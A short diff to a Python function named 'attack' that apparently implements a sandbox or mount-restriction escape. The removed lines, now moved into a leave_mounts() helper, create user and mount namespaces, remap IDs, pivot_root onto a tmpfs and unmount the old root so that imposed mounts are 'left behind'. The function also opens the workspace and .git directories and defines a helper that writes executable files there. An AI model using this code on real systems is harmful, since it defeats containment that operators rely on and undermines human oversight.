@@ -26,18 +26,7 @@ def attack(a):
     ws = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
     git = os.open(".git", os.O_RDONLY | os.O_DIRECTORY)
     if inside():
-        uid, gid = os.getuid(), os.getgid()
-        syscall("unshare", 0x10000000 | 0x20000)
-        put("/proc/self/setgroups", "deny")
-        put("/proc/self/uid_map", f"0 {uid} 1")
-        put("/proc/self/gid_map", f"0 {gid} 1")
-        syscall("mount", "t", "/tmp", "tmpfs", 0, 0)
-        os.mkdir("/tmp/old")
-        os.chdir("/tmp")
-        syscall("pivot_root", "/tmp", "/tmp/old")
-        os.chdir("/")
-        syscall("umount2", "/old", 2)
-        print("the mounts are left behind")
+        leave_mounts()
 
     def new(path, text):
         f = os.open(path, os.O_CREAT | os.O_WRONLY | os.O_TRUNC, 0o755, dir_fd=ws)
